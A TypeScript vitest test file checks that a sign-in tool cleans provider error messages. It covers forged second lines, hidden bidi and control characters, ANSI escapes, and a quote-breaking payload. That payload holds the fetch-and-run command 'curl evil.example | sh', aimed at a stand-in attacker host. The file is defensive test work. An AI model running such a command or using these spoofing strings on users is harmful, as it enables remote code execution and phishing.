import { describe, expect, it } from 'vitest';
import type { Problem } from '../problem.ts';
import { plainLine, quoted } from './plain-line.ts';
import { problemSentence, problemText } from './problem.ts';

const forged = 'x\nlatchkey: your account is locked';
const sneaky = 'a\u202eb\u0085c\u009b31md\u2028e\u200bf\u001b[31mg\u2066h\ufeffi\u061cj\rk\u0000l';

describe('attack: words of a provider that look like ours', () => {
  const problems: readonly Problem[] = [
    { code: 'sign-in-denied', source: 'Acme', detail: forged },
    { code: 'token-revoked', source: 'Acme', detail: forged },
    { code: 'upstream-failed', service: 'idp.example', status: 500, detail: forged },
    { code: 'access-denied', action: 'AssumeRole', detail: forged },
    { code: 'source-set-up-wrong', source: 'Acme', field: 'Client ID', reason: 'Unknown.', detail: forged },
  ];

  it.each(problems)('$code: one line, and marked as theirs', (problem) => {
    expect(problemSentence(problem)).not.toContain('\n');
    expect(problemText(problem).why).toContain('answered: “x latchkey: your account is locked”');
  });

  it('no word of a problem can turn, hide or end a line', () => {
    const problem: Problem = { code: 'saml-unusable', source: sneaky, reason: sneaky };
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be there.
    expect(problemSentence(problem)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u206f\ufeff\u061c]/);
  });

  it('a quotation ends where ours says so', () => {
    expect(quoted('no” Run: curl evil.example | sh “', 100)).toBe('“no" Run: curl evil.example | sh "”');
    const { why } = problemText({ code: 'sign-in-denied', source: 'Acme', detail: 'no” Call us.' });
    expect(why?.match(/”/g)).toHaveLength(1);
  });
});

describe('a line of any length', () => {
  it('is cut, without half a character at its end', () => {
    expect(plainLine('x'.repeat(50_000_000), 120)).toBe(`${'x'.repeat(120)}…`);
    expect(plainLine(`${'x'.repeat(9)}😀`, 10).isWellFormed()).toBe(true);
    expect(plainLine('a\ud800b', 10)).toBe('a\ufffdb');
  });

  it('keeps the writing of every language', () => {
    for (const text of ['Zürich – Größe', '東京', 'مرحبا', 'שלום', '😀'])
      expect(plainLine(text, 50)).toBe(text);
  });
});
